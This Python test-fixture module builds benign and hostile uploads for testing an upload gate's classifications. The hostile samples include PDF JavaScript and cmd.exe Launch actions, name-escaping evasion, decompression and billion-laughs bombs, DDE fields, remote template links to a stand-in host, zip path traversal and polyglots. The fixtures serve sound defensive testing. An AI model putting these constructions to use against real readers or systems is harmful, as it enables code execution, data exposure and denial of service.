"""A corpus of files made here: what people send, and what attackers send.

Each builder returns bytes; ``GOOD`` and ``HOSTILE`` say how the gate must
answer. Nothing is read from the disk and nothing is random.
"""

import io
import struct
import zipfile
import zlib

import docx
import pikepdf
import pillow_heif
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml"
_DECLARATION = '<?xml version="1.0" encoding="UTF-8"?>'


# --- PDF ---------------------------------------------------------------------


def pdf(change=None, pages=1, **save):
    """A document of empty pages; ``change`` may add to it before it is saved."""
    document = pikepdf.new()
    for _ in range(pages):
        document.add_blank_page()
    if change:
        change(document)
    out = io.BytesIO()
    document.save(out, **save)
    return out.getvalue()


def _opens_with(action):
    def change(document):
        document.Root.OpenAction = action

    return change


def _annotation(**entries):
    def change(document):
        note = Dictionary(
            Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], **entries
        )
        document.pages[0].Annots = Array([note])

    return change


def _javascript_in_a_name_tree(document):
    script = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    document.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("a"), script]))
    )


def _launch_by_reference(document):
    kind = document.make_indirect(Name.Launch)
    document.Root.OpenAction = Dictionary(S=kind, F=String("cmd.exe"))


def _attached(document):
    document.attachments["tool.exe"] = b"MZ" + b"\0" * 100


def _form(document):
    document.Root.AcroForm = Dictionary(XFA=String("<xdp/>"), Fields=Array([]))


def _media(document):
    document.pages[0].Annots = Array(
        [Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=[0, 0, 9, 9])]
    )


def _goes_to_a_page(document):
    document.Root.OpenAction = Array([document.pages[0].obj, Name.Fit])


def _goes_to_a_page_by_action(document):
    document.Root.OpenAction = Dictionary(
        S=Name.GoTo, D=Array([document.pages[0].obj, Name.Fit])
    )


def _speaks_of_javascript(document):
    document.docinfo["/Title"] = "What /JS and /Launch mean in a PDF"


def pdf_with_escaped_names():
    """JavaScript spelt /J#53: the same name for a reader, another for a search."""
    change = _opens_with(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))
    plain = pdf(change, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return plain.replace(b"/JS ", b"/J#53 ").replace(b"/JavaScript", b"/J#61vaScript")


def pdf_bomb():
    """Packed objects of 400 kB that unpack into 400 MB."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b" " * (1 << 20)) for _ in range(400))
    packed += packer.flush()
    head = b"1 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n"
    body = b"%PDF-1.5\n" + head % len(packed) + packed + b"\nendstream endobj\n"
    entries = b"".join(
        struct.pack(">BIB", kind, first, second)
        for kind, first, second in [(0, 0, 0), (1, 9, 0), (2, 1, 0), (1, len(body), 0)]
    )
    table = b"3 0 obj<</Type/XRef/Size 4/W[1 4 1]/Root 2 0 R/Length %d>>stream\n"
    table = table % len(entries) + entries + b"\nendstream endobj\n"
    return body + table + b"startxref\n%d\n%%%%EOF\n" % len(body)


def pdf_lzw_objects():
    """Packed objects in a compression whose size nobody bounds."""
    plain = pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return plain.replace(b"/Type /ObjStm", b"/Type /ObjStm /Filter /L#5aWDecode")


def pdf_with_archive_comment():
    """A ZIP whose comment ends with the end of a PDF: both kinds at once."""
    begin = pdf()[:-6]
    archive = archive_of({"a.exe": b"MZ"})
    comment = b"\n%%EOF\n"
    archive = archive[:-2] + struct.pack("<H", len(comment))
    return begin + archive + comment


# --- Word and Excel ------------------------------------------------------------


def archive_of(parts, prefix=b"", compress=zipfile.ZIP_DEFLATED):
    """A ZIP of the parts, name to bytes."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compress) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return prefix + out.getvalue()


def parts_of(data):
    """The parts of a ZIP, name to bytes."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def word(text="Báo cáo công tác dân vận", link=""):
    """A Word file with a heading, a paragraph, a table and perhaps a link."""
    document = docx.Document()
    document.add_heading("Báo cáo", 1)
    document.add_paragraph(text)
    document.add_table(2, 2).cell(0, 0).text = "1.945"
    if link:
        document.part.relate_to(link, f"{_OFFICE}/hyperlink", is_external=True)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def empty_word():
    """A Word file without a word in it."""
    out = io.BytesIO()
    docx.Document().save(out)
    return out.getvalue()


def document_bomb(size=200 << 20):
    """A Word file whose very text is a bomb."""
    parts = parts_of(word())
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            if name != "word/document.xml":
                archive.writestr(name, data)
        with archive.open("word/document.xml", "w", force_zip64=True) as part:
            for _ in range(size >> 20):
                part.write(b" " * (1 << 20))
    return out.getvalue()


def excel(**more):
    """A workbook of one sheet; ``more`` adds or replaces parts."""
    types = (
        f'{_DECLARATION}<Types xmlns="{_PACKAGE}/content-types">'
        '<Default Extension="rels" ContentType='
        '"application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{_SHEET}.sheet.main+xml"/>'
        f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{_SHEET}.worksheet+xml"/>'
        "</Types>"
    )
    sheet = (
        f'{_DECLARATION}<worksheet xmlns="http://schemas.openxmlformats.org/'
        'spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><v>798</v></c></row>'
        "</sheetData></worksheet>"
    )
    book = (
        f'{_DECLARATION}<workbook xmlns="http://schemas.openxmlformats.org/'
        f'spreadsheetml/2006/main" xmlns:r="{_OFFICE}"><sheets>'
        '<sheet name="Biểu 1" sheetId="1" r:id="rId1"/></sheets></workbook>'
    )
    parts = {
        "[Content_Types].xml": types,
        "_rels/.rels": relations(("officeDocument", "xl/workbook.xml", "Internal")),
        "xl/workbook.xml": book,
        "xl/_rels/workbook.xml.rels": relations(
            ("worksheet", "worksheets/sheet1.xml", "Internal")
        ),
        "xl/worksheets/sheet1.xml": sheet,
    }
    return archive_of(parts | more)


def relations(*entries):
    """A relations part of (type, target, mode)."""
    rows = "".join(
        f'<Relationship Id="rId{i}" Type="{_OFFICE}/{kind}" Target="{target}" '
        f'TargetMode="{mode}"/>'
        for i, (kind, target, mode) in enumerate(entries, 1)
    )
    return (
        f'{_DECLARATION}<Relationships xmlns="{_PACKAGE}/relationships">{rows}'
        "</Relationships>"
    )


def word_with(parts, base=None):
    """A Word file with parts added or replaced."""
    return archive_of(parts_of(base or word()) | parts)


def macro_word():
    """A macro document under the harmless ending."""
    parts = parts_of(word())
    types = parts["[Content_Types].xml"].decode()
    types = types.replace(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    return word_with({"[Content_Types].xml": types, "word/vbaProject.bin": b"\0" * 99})


def word_bomb(size=512 << 20):
    """A document whose part is all zeros: some hundred kB that unpack into ``size``."""
    out = io.BytesIO(word())
    with (
        zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive,
        archive.open("word/media/image1.bmp", "w", force_zip64=True) as part,
    ):
        for _ in range(size >> 20):
            part.write(b"\0" * (1 << 20))
    return out.getvalue()


def billion_laughs():
    """A sheet that calls an entity of entities."""
    rows = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    text = f'<!DOCTYPE lolz [<!ENTITY l0 "lol">{rows}]><worksheet>&l9;</worksheet>'
    return excel(**{"xl/worksheets/sheet1.xml": _DECLARATION + text})


def late_doctype():
    """The same, behind 65.500 bytes of comment and in UTF-16."""
    text = f"<!--{'x' * 65500}--><!DOCTYPE a [<!ENTITY l0 'lol'>]><a>&l0;</a>"
    return excel(**{"xl/worksheets/sheet1.xml": text.encode("utf-16")})


def encrypted_office():
    """What Word writes for a document with a password: an OLE file."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le")


def encrypted_part():
    """A package whose parts are encrypted by ZIP itself."""
    data = bytearray(excel())
    data[6] |= 1
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        data[at + 8] |= 1
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)


# --- Pictures ----------------------------------------------------------------


def picture(kind="JPEG", size=(64, 48), mode="RGB", **save):
    """A picture with a slope of colours, so that turning it can be seen."""
    image = Image.linear_gradient("L").resize(size).convert(mode)
    out = io.BytesIO()
    image.save(out, kind, **save)
    return out.getvalue()


def photo_with_exif():
    """A phone's photo: lying on its side, with the place where it was taken."""
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010F] = "CANARY-PHONE"
    exif.get_ifd(0x8825)[1] = "N"
    return picture(size=(80, 40), exif=exif)


def heic():
    """An iPhone's photo."""
    out = io.BytesIO()
    image = Image.linear_gradient("L").resize((64, 48)).convert("RGB")
    pillow_heif.from_pillow(image).save(out, quality=60)
    return out.getvalue()


def png_of(width, height):
    """A PNG that only says how large it is."""

    def chunk(kind, data):
        code = zlib.crc32(kind + data)
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", code)

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 9))
    return b"\x89PNG\r\n\x1a\n" + body + chunk(b"IEND", b"")


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
EXE = b"MZ\x90\x00" + b"\x00" * 200
GIF = b"GIF89a\x01\x00\x01\x00\x00\x00\x00,<script>alert(1)</script>;"
JAVASCRIPT = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))

GOOD = {
    "plain.pdf": pdf(),
    "twelve-pages.pdf": pdf(pages=12),
    "opens-at-a-page.pdf": pdf(_goes_to_a_page),
    "opens-at-a-page-by-action.pdf": pdf(_goes_to_a_page_by_action),
    "with-a-link.pdf": pdf(
        _annotation(A=Dictionary(S=Name.URI, URI=String("https://example.vn")))
    ),
    "with-other-links.pdf": pdf(
        _annotation(A=Dictionary(S=Name.URI, URI=String("mailto:ubnd@example.vn"))),
        pages=2,
    ),
    "with-a-relative-link.pdf": pdf(
        _annotation(A=Dictionary(S=Name.URI, URI=String("www.example.vn/a:b")))
    ),
    "speaks-of-javascript.pdf": pdf(_speaks_of_javascript),
    "linearized.pdf": pdf(linearize=True),
    "packed-objects.pdf": pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate),
    "UPPER.PDF": pdf(),
    "letter.docx": word(),
    "with-hyperlink.docx": word(link="https://dichvucong.gov.vn"),
    "chart.docx": word_with({"word/embeddings/book1.xlsx": excel()}),
    "formula.docx": word_with(
        {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1Equation"}
    ),
    "pesticide.docx": word("Dư lượng DDE trong đất"),
    "sheet.xlsx": excel(),
    "photo.jpg": picture(),
    "photo-with-place.jpeg": photo_with_exif(),
    "photo.png": picture("PNG"),
    "clear.png": picture("PNG", mode="RGBA"),
    "palette.png": picture("PNG", mode="P"),
    "black-white-scan.png": picture("PNG", mode="1"),
    "photo.webp": picture("WEBP"),
    "iphone.heic": heic(),
    "iphone-renamed.jpg": heic(),
    "printing-colours.jpg": picture(mode="CMYK"),
    "grey-scan.jpg": picture(mode="L"),
    "letter.txt": "Kính gửi: Ủy ban nhân dân xã\nTôi đề nghị…".encode(),
    "with-bom.txt": "\ufeffĐơn kiến nghị".encode(),
    "nfd.txt": "Khiê\u0301u na\u0323i".encode(),
}

HOSTILE = {
    "empty.pdf": (b"", "empty"),
    "blank.txt": (b" \r\n ", "empty"),
    "large.txt": (b"a" * (10 * 1024 * 1024 + 1), "too_large"),
    "noname": (b"abc", "unknown_type"),
    "tool.exe": (EXE, "unknown_type"),
    "page.html": (HTML, "unknown_type"),
    "drawing.svg": (SVG, "unknown_type"),
    "script.gif": (GIF, "unknown_type"),
    "old.doc": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "old_office"),
    "macro.docm": (macro_word(), "macro"),
    "html.jpg": (HTML, "wrong_extension"),
    "exe.pdf": (EXE, "wrong_extension"),
    "svg.png": (SVG, "wrong_extension"),
    "gif.png": (GIF, "wrong_extension"),
    "html.txt": (HTML, "wrong_extension"),
    "pdf.docx": (pdf(), "wrong_extension"),
    "zip.docx": (archive_of({"a.exe": EXE}), "wrong_extension"),
    "xlsx.docx": (excel(), "wrong_extension"),
    "docx.pdf": (word(), "wrong_extension"),
    "nul.txt": (b"abc\x00def", "not_utf8"),
    "old-encoding.txt": ("Đơn".encode("utf-16"), "not_utf8"),
    "javascript.pdf": (pdf(_opens_with(JAVASCRIPT)), "macro"),
    "javascript-on-a-link.pdf": (pdf(_annotation(A=JAVASCRIPT)), "macro"),
    "javascript-on-hover.pdf": (pdf(_annotation(AA=Dictionary(E=JAVASCRIPT))), "macro"),
    "javascript-in-names.pdf": (pdf(_javascript_in_a_name_tree), "macro"),
    "javascript-escaped.pdf": (pdf_with_escaped_names(), "macro"),
    "launch.pdf": (
        pdf(_opens_with(Dictionary(S=Name.Launch, F=String("cmd.exe")))),
        "action",
    ),
    "launch-by-reference.pdf": (pdf(_launch_by_reference), "action"),
    "next-action.pdf": (
        pdf(
            _annotation(
                A=Dictionary(
                    S=Name.URI,
                    URI=String("https://example.vn"),
                    Next=Array([Dictionary(S=Name.Launch, F=String("cmd.exe"))]),
                )
            )
        ),
        "action",
    ),
    "remote.pdf": (
        pdf(_annotation(A=Dictionary(S=Name.GoToR, F=String("\\\\10.0.0.1\\a")))),
        "action",
    ),
    "submit.pdf": (
        pdf(
            _annotation(A=Dictionary(S=Name.SubmitForm, F=String("https://a.example")))
        ),
        "action",
    ),
    "script-link.pdf": (
        pdf(_annotation(A=Dictionary(S=Name.URI, URI=String("javascript:alert(1)")))),
        "action",
    ),
    "file-link.pdf": (
        pdf(_annotation(A=Dictionary(S=Name.URI, URI=String("file:///c:/a.exe")))),
        "action",
    ),
    "dynamic-form.pdf": (pdf(_form), "action"),
    "media.pdf": (pdf(_media), "action"),
    "attached-exe.pdf": (pdf(_attached), "embedded"),
    "password.pdf": (
        pdf(encryption=pikepdf.Encryption(owner="a", user="b")),
        "encrypted",
    ),
    "owner-password.pdf": (
        pdf(encryption=pikepdf.Encryption(owner="a", user="")),
        "encrypted",
    ),
    "bytes-before.pdf": (b"GIF89a\n" + pdf(), "polyglot"),
    "zip-after.pdf": (pdf() + archive_of({"a": b"b"}), "polyglot"),
    "zip-comment.pdf": (pdf_with_archive_comment(), "polyglot"),
    "html-after.pdf": (pdf() + HTML, "polyglot"),
    "cut.pdf": (pdf(pages=3)[:400], "broken"),
    "no-pages.pdf": (pdf(pages=0), "broken"),
    "bomb.pdf": (pdf_bomb(), "broken"),
    "lzw.pdf": (pdf_lzw_objects(), "bomb"),
    "macro.docx": (macro_word(), "macro"),
    "macro-part.docx": (word_with({"word/vbaProject.bin": b"\0" * 99}), "macro"),
    "activex.docx": (word_with({"word/activeX/activeX1.xml": "<a/>"}), "macro"),
    "old-macro.xlsx": (excel(**{"xl/macrosheets/sheet1.xml": "<a/>"}), "macro"),
    "template.docx": (
        word_with(
            {
                "word/_rels/settings.xml.rels": relations(
                    ("attachedTemplate", "https://a.example/t.dotm", "External")
                )
            }
        ),
        "external",
    ),
    "remote-picture.docx": (
        word_with(
            {
                "word/_rels/footer9.xml.rels": relations(
                    ("image", "https://a.example/p.png", "External")
                )
            }
        ),
        "external",
    ),
    "remote-object.docx": (
        word_with(
            {
                "word/_rels/header9.xml.rels": relations(
                    ("oleObject", "https://a.example/o", "external")
                )
            }
        ),
        "external",
    ),
    "web-page-part.docx": (
        word_with(
            {"word/_rels/header9.xml.rels": relations(("aFChunk", "a.mht", "Internal"))}
        ),
        "embedded",
    ),
    "dde.docx": (
        word_with(
            {"word/header9.xml": '<w:instrText xml:space="preserve"> DDEAUTO c:\\a'}
        ),
        "external",
    ),
    "dde.xlsx": (
        excel(**{"xl/externalLinks/externalLink1.xml": '<ddeLink ddeService="cmd"/>'}),
        "external",
    ),
    "packaged-exe.docx": (
        word_with(
            {
                "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
                + "\x01Ole10Native".encode("utf-16-le")
            }
        ),
        "embedded",
    ),
    "embedded-exe.docx": (word_with({"word/embeddings/a.bin": EXE}), "embedded"),
    "embedded-macro.docx": (
        word_with({"word/embeddings/a.docx": macro_word()}),
        "macro",
    ),
    "laughs.xlsx": (billion_laughs(), "broken"),
    "late-doctype.xlsx": (late_doctype(), "broken"),
    "other-encoding.xlsx": (
        excel(**{"xl/a.xml": '<?xml version="1.0" encoding="UTF-7"?><a/>'}),
        "broken",
    ),
    "bomb.docx": (word_bomb(), "bomb"),
    "many-parts.docx": (
        word_with({f"word/media/{i}.txt": b"" for i in range(4001)}),
        "bomb",
    ),
    "password.docx": (encrypted_office(), "encrypted"),
    "password.xlsx": (encrypted_part(), "encrypted"),
    "straying.docx": (word_with({"../../evil.txt": b"a"}), "broken"),
    "before.docx": (b"\xff\xd8\xff" + word(), "wrong_extension"),
    "after.docx": (word() + b"<script>", "polyglot"),
    "comment.docx": (word()[:-2] + b"\x08\x00<script>", "polyglot"),
    "cut.docx": (word()[:-200], "broken"),
    "flood.png": (png_of(50_000, 50_000), "pixels"),
    "large.png": (png_of(9_000, 6_000), "pixels"),
    "cut.jpg": (picture(size=(400, 400))[:600], "broken"),
    "cut.heic": (heic()[:200], "broken"),
    "html.heic": (b"\0\0\0\x18ftypheic" + HTML, "broken"),
}
